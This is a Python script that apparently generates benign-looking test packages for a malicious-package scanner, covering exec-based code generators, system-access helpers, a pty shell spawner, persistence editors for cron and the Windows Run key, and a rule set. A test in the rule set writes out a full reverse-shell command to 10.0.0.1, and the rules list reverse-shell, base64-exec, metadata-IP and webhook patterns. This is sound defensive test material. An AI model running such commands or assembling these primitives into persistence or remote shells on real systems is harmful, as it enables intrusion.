"""Benign Python libraries that compile code or reach into the system for their caller."""

import base64
import json
import zlib

import kit
from kit import Dice
from packages import Writer


def compilers(w):
    w.wheel("template-jar", "3.1.3", "template-engine", "compiles templates and executes the code", r'''import builtins


class Template:
    def __init__(self, source):
        lines = ['def root(context):']
        for part in source.split('{{'):
            name, _, rest = part.rpartition('}}')
            lines.append('    yield %r' % rest if not name else '    yield str(context[%r])\n    yield %r' % (name.strip(), rest))
        self.code = compile('\n'.join(lines), '<template>', 'exec')

    def render(self, **context):
        ns = {'__builtins__': builtins}
        exec(self.code, ns)
        return ''.join(ns['root'](context))
''')
    w.wheel("class-attrs", "23.2.0", "code-generation", "generates methods by compiling text", r'''import linecache


def _make_init(cls, names):
    script = 'def __init__(self, %s):\n%s' % (', '.join(names), '\n'.join('    self.%s = %s' % (n, n) for n in names))
    filename = '<attrs generated init %s>' % cls.__qualname__
    globs, locs = {}, {}
    eval(compile(script, filename, 'exec'), globs, locs)
    linecache.cache[filename] = (len(script), None, script.splitlines(True), filename)
    return locs['__init__']


def define(cls):
    cls.__init__ = _make_init(cls, list(cls.__annotations__))
    return cls
''')
    w.wheel("symbolic-eval", "1.12.0", "code-generation", "turns expressions into functions", '''import math

MODULES = {'sin': math.sin, 'cos': math.cos, 'pi': math.pi}


def lambdify(args, expr):
    return eval('lambda %s: (%s)' % (', '.join(args), expr), dict(MODULES), {})


def sympify(text):
    if '__' in text:
        raise ValueError(text)
    return eval(compile(text, '<string>', 'eval'), {'__builtins__': {}}, MODULES)
''')
    w.wheel("pickle-more", "3.0.0", "serialiser", "pickles functions and code objects", '''import marshal
import pickle
import types


def _load_code(data):
    return types.FunctionType(marshal.loads(data), {'__builtins__': __builtins__})


class Pickler(pickle.Pickler):
    def reducer_override(self, obj):
        if isinstance(obj, types.FunctionType):
            return _load_code, (marshal.dumps(obj.__code__),)
        return NotImplemented


load, loads = pickle.load, pickle.loads
''')
    w.wheel("bytecode-view", "0.16.0", "serialiser", "reads compiled modules and prints their instructions", '''import dis
import marshal
import struct
import sys


def show(path):
    with open(path, 'rb') as f:
        magic, flags, when, size = struct.unpack('<4sIII', f.read(16))
        code = marshal.loads(f.read())
    print(magic.hex(), flags, when, size, sys.version)
    dis.dis(code)
''')
    w.wheel("repl-shell", "8.20.0", "code-generation", "an interactive interpreter: executes what its user types", '''import ast
import subprocess


class Shell:
    def __init__(self):
        self.ns = {}

    def run_cell(self, text):
        if text.startswith('!'):
            return subprocess.call(text[1:], shell=True)
        if text.startswith('%run '):
            with open(text[5:]) as f:
                text = f.read()
        exec(compile(ast.parse(text), '<cell>', 'exec'), self.ns)
''')
    w.wheel("test-rewriter", "8.0.0", "code-generation", "rewrites assertions as modules are imported and keeps compiled files", '''import ast
import importlib.abc
import marshal
import sys


class Hook(importlib.abc.MetaPathFinder, importlib.abc.Loader):
    def find_spec(self, name, path=None, target=None):
        return None

    def exec_module(self, module):
        with open(module.__spec__.origin, 'rb') as f:
            tree = ast.parse(f.read())
        co = compile(tree, module.__spec__.origin, 'exec', dont_inherit=True)
        with open(module.__spec__.cached, 'wb') as f:
            f.write(marshal.dumps(co))
        exec(co, module.__dict__)


sys.meta_path.insert(0, Hook())
''')
    w.wheel("jit-assembler", "0.9.0", "jit", "assembles functions for numeric code and calls them", r'''import ctypes
import mmap
import struct


class Assembler:
    def __init__(self):
        self.code = bytearray()

    def mov_rax(self, value):
        self.code += b'\x48\xb8' + struct.pack('<q', value)
        return self

    def ret(self):
        self.code += b'\xc3'
        return self

    def load(self):
        m = mmap.mmap(-1, max(len(self.code), mmap.PAGESIZE), prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
        m.write(bytes(self.code))
        fn = ctypes.CFUNCTYPE(ctypes.c_int64)(ctypes.addressof(ctypes.c_void_p.from_buffer(m)))
        fn._memory = m
        return fn
''')


def system(w):
    w.wheel("proc-info", "5.9.8", "system-information", "processes, users, networks and disks of a machine", r'''import glob
import os
import socket


def pids():
    return [int(x) for x in os.listdir('/proc') if x.isdigit()]


class Process:
    def __init__(self, pid):
        self.pid = pid

    def environ(self):
        with open('/proc/%d/environ' % self.pid) as f:
            return dict(p.split('=', 1) for p in f.read().split('\0') if '=' in p)

    def cmdline(self):
        with open('/proc/%d/cmdline' % self.pid) as f:
            return f.read().split('\0')


def net_if_addrs():
    return {i: open('/sys/class/net/%s/address' % i).read().strip() for i in os.listdir('/sys/class/net')}


def users():
    return [os.getlogin(), socket.gethostname()]


def sensors():
    return glob.glob('/sys/class/hwmon/hwmon*/temp*_*')
''')
    w.wheel("expect-pty", "4.9.0", "terminal", "starts programs on a pseudo-terminal", '''import fcntl
import os
import pty
import termios


class Spawn:
    def __init__(self, argv, env=None):
        self.pid, self.fd = pty.fork()
        if self.pid == 0:
            fcntl.ioctl(0, termios.TIOCSCTTY, 0)
            os.execvpe(argv[0], argv, env or os.environ)

    def send(self, text):
        os.write(self.fd, text.encode())

    def read(self, size=1024):
        return os.read(self.fd, size).decode()

    @classmethod
    def shell(cls):
        return cls(['/bin/sh', '-i'])


def redirect(fd):
    for n in (0, 1, 2):
        os.dup2(fd, n)
''')
    w.wheel("shell-pipes", "2.0.6", "exec-wrapper", "programs as functions", '''import os
import shlex
import subprocess


class Command:
    def __init__(self, name):
        self.name = name

    def __call__(self, *args, _in=None, _env=None):
        return subprocess.run([self.name, *map(str, args)], input=_in, env=_env or os.environ, capture_output=True, text=True).stdout


def __getattr__(name):
    return Command(name)


def run(line):
    return subprocess.Popen(line, shell=True, stdout=subprocess.PIPE) if '|' in line else Command(shlex.split(line)[0])(*shlex.split(line)[1:])
''')
    w.wheel("clip-paste", "1.8.2", "clipboard", "reads and writes the clipboard when asked", '''import ctypes
import shutil
import subprocess
import sys


def copy(text):
    if sys.platform == 'win32':
        u = ctypes.windll.user32
        u.OpenClipboard(0)
        u.EmptyClipboard()
        u.SetClipboardData(13, text)
        u.CloseClipboard()
        return
    tool = ['pbcopy'] if sys.platform == 'darwin' else ['xclip', '-selection', 'c'] if shutil.which('xclip') else ['wl-copy']
    subprocess.run(tool, input=text.encode(), check=True)


def paste():
    return subprocess.check_output(['pbpaste'] if sys.platform == 'darwin' else ['xclip', '-selection', 'c', '-o']).decode()
''')
    w.wheel("crontab-edit", "3.0.0", "scheduler", "edits the user's cron table when asked", r'''import subprocess


class CronTab:
    def __init__(self, user=None):
        self.cmd = ['crontab'] + (['-u', user] if user else [])
        self.lines = subprocess.run(self.cmd + ['-l'], capture_output=True, text=True).stdout.splitlines()

    def new(self, command, schedule='@reboot', comment=''):
        self.lines.append('%s %s # %s' % (schedule, command, comment))

    def write(self):
        subprocess.run(self.cmd + ['-'], input='\n'.join(self.lines) + '\n', text=True, check=True)
''')
    w.wheel("key-events", "1.7.6", "input-library", "lets an application listen to keys", '''import threading


class Listener(threading.Thread):
    def __init__(self, on_press=None, on_release=None, suppress=False):
        super().__init__(daemon=True)
        self.on_press, self.on_release = on_press, on_release

    def run(self):
        from Xlib import display, X
        d = display.Display()
        d.screen().root.grab_keyboard(True, X.GrabModeAsync, X.GrabModeAsync, X.CurrentTime)
        while True:
            e = d.next_event()
            if e.type == X.KeyPress and self.on_press(e.detail) is False:
                return
''')
    w.wheel("win-registry-tools", "0.5.0", "system-access", "reads and writes the registry for its caller", r'''try:
    import winreg
except ImportError:
    winreg = None

STARTUP = r'Software\Microsoft\Windows\CurrentVersion\Run'


def get(path, name):
    with winreg.OpenKey(winreg.HKEY_CURRENT_USER, path) as k:
        return winreg.QueryValueEx(k, name)[0]


def put(path, name, value):
    with winreg.CreateKey(winreg.HKEY_CURRENT_USER, path) as k:
        winreg.SetValueEx(k, name, 0, winreg.REG_SZ, value)


def list_startup():
    with winreg.OpenKey(winreg.HKEY_CURRENT_USER, STARTUP) as k:
        return [winreg.EnumValue(k, i)[:2] for i in range(winreg.QueryInfoKey(k)[1])]
''')
    w.wheel("corpora-get", "3.8.1", "verified-download", "downloads data sets after comparing digests", '''import hashlib
import os
import urllib.request
import zipfile

INDEX = 'https://raw.githubusercontent.com/corpora/data/main/index.xml'


class Downloader:
    def download(self, info, folder):
        path, _ = urllib.request.urlretrieve(info['url'], os.path.join(folder, info['id'] + '.zip'))
        with open(path, 'rb') as f:
            if hashlib.md5(f.read()).hexdigest() != info['checksum']:
                raise ValueError('checksum')
        with zipfile.ZipFile(path) as z:
            z.extractall(folder)
        return True
''')
    w.wheel("model-installer", "3.7.2", "exec-wrapper", "installs a language model with pip when its user asks", '''import subprocess
import sys

MODELS = 'https://github.com/langtools/models/releases/download'


def download(model, version, direct=False):
    url = '%s/%s-%s/%s-%s-py3-none-any.whl' % (MODELS, model, version, model, version)
    subprocess.run([sys.executable, '-m', 'pip', 'install', '--no-deps', url], check=True)
''')
    w.wheel("threat-patterns", "2.4.0", "security-tool", "patterns and descriptions of malicious code", {"PKG/rules.json": json.dumps([{"id": "exec-b64", "pattern": r"exec\(base64\.b64decode\("}, {"id": "revshell", "pattern": r"bash -i >& /dev/tcp/"}, {"id": "imds", "pattern": r"169\.254\.169\.254"}, {"id": "webhook", "pattern": r"discord(app)?\.com/api/webhooks"}], indent=1), "PKG/__init__.py": '''import json
import pkgutil
import re

RULES = [(r['id'], re.compile(r['pattern'])) for r in json.loads(pkgutil.get_data(__name__, 'rules.json'))]


def scan(text):
    return [name for name, rule in RULES if rule.search(text)]
''', "tests/test_rules.py": '''from threat_patterns import scan


def test_exec():
    assert scan('exec(base64.b64decode(x))') == ['exec-b64']
    assert scan('bash -i >& /dev/tcp/10.0.0.1/4444 0>&1') == ['revshell']
'''})
    w.wheel("unicode-widths", "0.2.13", "unicode-data", "tables of widths, direction marks and look-alikes", {"PKG/table.py": r'''ZERO_WIDTH = (
%s)

BIDI = '\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069'
VARIATION = range(0xfe00, 0xfe10)
TAGS = range(0xe0000, 0xe0080)
''' % "".join("    (0x%05x, 0x%05x),\n" % (n, n + n % 9) for n in range(0x300, 0x1f000, 311)), "PKG/__init__.py": "from .table import ZERO_WIDTH\n\n\ndef wcwidth(c):\n    return 0 if any(a <= ord(c) <= b for a, b in ZERO_WIDTH) else 1\n", "PKG/samples.txt": "\u05e9\u05dc\u05d5\u05dd \u2067abc\u2069 \u200fمرحبا 👩\u200d👩\u200d👧 ❤\ufe0f 🏴\U000e0067\U000e0062\U000e007f\n"})
    w.wheel("cipher-tables", "3.20.0", "crypto-tables", "a cipher's tables in hex and exclusive-or loops", '''SBOX = bytes.fromhex(%r)
T0 = (%s)


def xor(a, b):
    return bytes(x ^ y for x, y in zip(a, b))


def ctr(key, data, block):
    out = b''
    for i in range(0, len(data), 16):
        out += xor(data[i:i + 16], block(key, i // 16))
    return out
''' % (Dice("sb").hex(512), ", ".join("0x" + Dice("t%d" % i).hex(8) for i in range(256))))
    w.wheel("logo-data", "1.0.0", "packed-data", "pictures and a licence text in base64 and zlib, decoded for display", '''import base64
import zlib

LOGO = %r
LICENCE = %r


def logo():
    return base64.b64decode(LOGO)


def licence():
    return zlib.decompress(base64.b64decode(LICENCE)).decode()
''' % (kit.b64(b"\x89PNG" + Dice("lg").raw(3000)), base64.b64encode(zlib.compress(("Permission is hereby granted. " * 80).encode())).decode()))
    w.wheel("schedule-simple", "1.2.1", "scheduler", "runs jobs in its own process", '''import threading
import time


class Job:
    def __init__(self, seconds, fn):
        self.seconds, self.fn, self.last = seconds, fn, 0


jobs = []


def every(seconds):
    def deco(fn):
        jobs.append(Job(seconds, fn))
        return fn
    return deco


def run_background():
    def loop():
        while True:
            for j in jobs:
                if time.time() - j.last >= j.seconds:
                    j.last = time.time()
                    j.fn()
            time.sleep(0.5)
    threading.Thread(target=loop, daemon=True).start()
''')
    w.wheel("many-locales", "2.14.0", "packed-data", "more than a hundred data files", "import json\nimport pkgutil\n\n\ndef load(number):\n    return json.loads(pkgutil.get_data('many_locales', 'data/%03d.json' % number))\n", many=150)


def build(items):
    writer = Writer(items, "good")
    compilers(writer)
    system(writer)
